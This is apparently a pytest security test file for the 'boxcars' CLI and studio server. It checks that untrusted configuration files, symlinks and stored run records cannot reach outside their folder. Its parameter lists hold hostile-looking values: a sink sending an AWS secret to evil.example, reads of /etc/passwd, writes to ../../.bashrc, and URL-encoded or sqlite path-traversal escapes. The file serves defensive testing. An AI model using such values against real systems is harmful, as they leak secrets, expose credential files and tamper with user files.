"""An untrusted folder: its configuration, links and previous runs must not lead outside."""

import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from boxcars.cli import app
from boxcars.studio.runs.launch import Order, prepare
from boxcars.studio.runs.records import Record
from boxcars.studio.wire.run_messages import AskRun
from tests.attacks.payloads import plain_network
from tests.studio.server import Served

SECRET = "hunter2"
REACHING = {
    "a secret in an address": 'sink = ["twice=http://evil.example/${AWS_SECRET}"]',
    "a secret in a path": 'checkpoint = "${AWS_SECRET}"',
    "an address elsewhere": 'sink = ["twice=http://evil.example/"]',
    "an address of this machine": 'source = ["calls=redis://127.0.0.1/calls"]',
    "a file of the user": 'source = ["calls=/etc/passwd"]',
    "a file above": 'sink = ["twice=../../.bashrc"]',
    "a database elsewhere": 'sink = ["twice=sqlite:////tmp/other.db?table=t"]',
    "a database by its other name": 'table = ["DB=sqlite:///file:/tmp/other.db?uri=true"]',
    "a link": 'metrics = "link/metrics.jsonl"',
    "a cluster": 'master = "spark://evil.example:7077"',
    "a port for others": 'host = "0.0.0.0"',
    "a sink that looks computed": 'sink = ["twice=rate:/../../escaped/"]',
    "a sink that is computed": 'sink = ["twice=rate://../../escaped/"]',
    "a checkpoint that looks computed": 'checkpoint = "rate:/../../escaped"',
    "a source that looks computed": 'source = ["calls=rate:/../../escaped.csv"]',
    "a file of metrics that looks computed": 'metrics = "rate:/../../escaped.jsonl"',
    "a pattern that fits a link": 'source = ["calls=out*.csv"]',
    "a pattern of any depth that fits a link": 'source = ["calls=**/x.csv"]',
    "a link in a folder": 'source = ["calls=data"]',
    "a link in a folder that is written": 'sink = ["twice=data/"]',
    "no name of a file": 'metrics = "a\\u0000b"',
    "a certificate": 'cert = "/etc/ssl/certs/ca.pem"',
}


@pytest.fixture
def _here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "downloaded"
    folder.mkdir()
    monkeypatch.chdir(folder)
    monkeypatch.setenv("AWS_SECRET", SECRET)
    Path("net.json").write_text(json.dumps(plain_network("price")))
    Path("link").symlink_to(tmp_path)
    (tmp_path / "outside.csv").write_text("time,price\n1,2.5\n")
    Path("out.csv").symlink_to("../outside.csv")
    Path("data").mkdir()
    Path("data/x.csv").symlink_to("../../outside.csv")


def run(*options: str) -> str:
    done = CliRunner().invoke(app, ["run", "net.json", *options])
    assert done.exit_code == 1
    return done.output + str(done.exception)


@pytest.mark.usefixtures("_here")
@pytest.mark.parametrize("what", REACHING)
def test_a_configuration_shipped_with_a_network(what: str, monkeypatch: pytest.MonkeyPatch) -> None:
    Path("boxcars.toml").write_text(f"[run]\n{REACHING[what]}\n")
    option = REACHING[what].partition(" ")[0]
    for name in (None, "boxcars.toml"):  # a relative path is not explicit trust
        if name:
            monkeypatch.setenv("BOXCARS_CONFIG", name)
        said = run()
        assert f"boxcars.toml, [run]: '{option}' reaches outside this folder" in said
        assert SECRET not in said
    monkeypatch.setenv("BOXCARS_CONFIG", str(Path("boxcars.toml").resolve()))
    assert "reaches out" not in run("--epoch-rows=0", f"--{option}=x=calls.csv")


@pytest.mark.usefixtures("_here")
def test_a_configuration_that_stays_in_its_folder() -> None:
    Path("boxcars.toml").write_text(
        '[run]\ninstances = 2\nhost = "127.0.0.1"\ncheckpoint = "state/c"\n'
        'source = ["calls=rate://10?rows=5&time=value&price=value / 2"]\nsink = ["twice=out/"]\n'
        'table = ["DB=sqlite:///own.db"]\nepoch-rows = 0\n'
    )
    assert "expected epochs of at least one row" in run()


class TestStudio:
    @pytest.fixture
    def served(self, tmp_path: Path) -> Iterator[Served]:
        folder = tmp_path / "studio"
        folder.mkdir()
        (tmp_path / "secret.csv").write_text("time,price\n1,2.5\n")
        (folder / "link").symlink_to(tmp_path)
        (folder / "data" / "deep").mkdir(parents=True)
        (folder / "data" / "deep" / "x.csv").symlink_to(tmp_path / "secret.csv")
        (folder / "net.yaml").symlink_to(tmp_path / "elsewhere.yaml")
        (tmp_path / "elsewhere.yaml").write_text(json.dumps(plain_network("price"), indent=1))
        found = Served(folder)
        yield found
        found.close()

    @pytest.mark.parametrize(
        "where",
        [
            "../secret.csv",
            "link/secret.csv",
            "l*/secret.csv",
            "link/*.csv",
            "data",
            "d*",
            "**/x.csv",
            "data/",
            "/etc/passwd",
            "sqlite:///../x.db?table=t",
            "sqlite:////tmp/x.db?table=t",
            "sqlite:///%2Ftmp/x.db?table=t",
            "sqlite:///${HOME}/x.db?table=t",
            "sqlite:///file:/tmp/x.db?table=t",
            "sqlite:///link/x.db?table=t",
            "tcp://127.0.0.1:7001?cert=/etc/passwd",
            "kafka://host/topic?ca=/etc/passwd",
        ],
    )
    def test_files_elsewhere(self, served: Served, where: str) -> None:
        net = plain_network("price")
        net["tables"] = {"DB": {"fields": {"k": "int"}, "key": ["k"]}}
        for place in ({"sources": {"calls": where}}, {"sinks": {"twice": where}}):
            code, said = served.refused("POST", "/api/runs", {"network": net, **place})
            assert (code, "outside of the studio's folder" in said) == (400, True)
        code, said = served.refused("POST", "/api/runs", {"network": net, "tables": {"DB": where}})
        assert (code, "outside of the studio's folder" in said) == (400, True)
        assert served.get("/api/runs") == []

    def test_a_link_to_a_network_elsewhere_is_not_listed(self, served: Served) -> None:
        text = (served.folder.parent / "elsewhere.yaml").read_text()
        (served.folder / "own.yaml").write_text(text)
        assert [found["file"] for found in served.get("/api/networks")] == ["own.yaml"]

    def test_a_link_that_appears_later(self, served: Served) -> None:
        """The run itself enforces the folder: the studio can only check at the start."""
        net = plain_network("price")
        asked = AskRun(network=net, sources={"calls": "data"}, follow=True)
        (served.folder / "data" / "deep" / "x.csv").unlink()
        order = prepare(asked, served.studio.workspace, code=False)
        assert "--within=." in order.options({})

    def test_links(self, served: Served) -> None:
        for path in ("net.yaml", "link", "..%2Felsewhere.yaml", "%2Fetc%2Fpasswd"):
            code, _ = served.call("GET", f"/api/networks/{path}")
            assert code in (400, 404)
        body = {"network": plain_network("price")}
        assert served.call("PUT", "/api/networks/net.yaml", body)[0] == 400
        assert served.call("DELETE", "/api/networks/net.yaml")[0] == 400
        assert os.path.lexists(served.folder / "net.yaml")

    def test_a_previous_run(self, served: Served) -> None:
        """Its record is in the folder, and names a file of the user and a sink elsewhere."""
        home = served.folder / ".boxcars" / "runs" / "abc"
        (home / "checkpoint").mkdir(parents=True)
        order = Order(
            name="trap",
            network=plain_network("price"),
            sources={"calls": "/etc/passwd"},
            sinks={"twice": "http://127.0.0.1:9/"},
            tables={},
            instances=None,
            buckets=1,
            epoch_rows=1,
            master=None,
            follow=False,
            code=True,
        )
        Record(id="abc", name="trap", order=order, state="stopped", sentence="", started=0.0).save(
            home
        )
        code, said = served.refused("POST", "/api/runs/abc/modify", {})
        assert (code, "outside of the studio's folder" in said) == (400, True)
